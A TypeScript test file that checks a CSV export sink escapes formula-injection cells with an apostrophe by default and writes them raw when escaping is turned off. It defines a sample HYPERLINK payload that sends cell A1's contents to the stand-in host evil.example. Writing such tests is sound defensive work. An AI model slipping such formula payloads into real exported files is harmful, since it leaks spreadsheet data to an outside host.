/**
 * Attack: a worksheet cell such as `=HYPERLINK("http://evil.example?"&A1,"open")`
 * pulled into a CSV runs as a formula when the file is opened in a spreadsheet. The
 * CSV sink prefixes such cells with `'` unless the sink spec opts out.
 */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSink } from '../../src/sync/sinks/create-sink.ts';
import { createTempDir } from '../fixtures/sources/source-test-kit.ts';

const EVIL = '=HYPERLINK("http://evil.example?"&A1,"open")';

describe('the CSV sink neutralises formula cells', () => {
  let tmp: Awaited<ReturnType<typeof createTempDir>>;
  beforeAll(async () => {
    tmp = await createTempDir('sec-csv');
  });
  afterAll(async () => {
    await tmp?.remove();
  });

  it("prefixes =, +, -, @, tab and CR cells with ' by default, leaving numbers and plain text alone", async () => {
    const sink = createSink({ type: 'csv', path: 'out.csv' }, { env: {}, baseDir: tmp.dir });
    await sink.write([{ a: EVIL, b: '+1', c: '-2+3', d: '@SUM(A1)', e: '\tx', f: '\rx', g: -5, h: 'plain' }]);
    await sink.close();
    const text = await readFile(join(tmp.dir, 'out.csv'), 'utf8');
    expect(text).toBe(
      `a,b,c,d,e,f,g,h\n"'=HYPERLINK(""http://evil.example?""&A1,""open"")",'+1,'-2+3,'@SUM(A1),'\tx,"'\rx",-5,plain\n`,
    );
  });

  it('writes cells as they are with formulaEscape: false', async () => {
    const sink = createSink(
      { type: 'csv', path: 'raw.csv', formulaEscape: false },
      { env: {}, baseDir: tmp.dir },
    );
    await sink.write([{ a: '=1+1' }]);
    await sink.close();
    expect(await readFile(join(tmp.dir, 'raw.csv'), 'utf8')).toBe('a\n=1+1\n');
  });
});
